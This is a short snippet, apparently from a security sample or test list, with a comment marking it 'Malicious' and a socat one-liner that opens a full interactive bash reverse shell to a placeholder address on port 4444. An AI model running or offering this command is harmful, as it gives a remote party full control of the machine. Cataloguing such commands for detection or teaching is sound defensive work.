# Malicious: socat gives a remote host a full pty shell.
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.10:4444
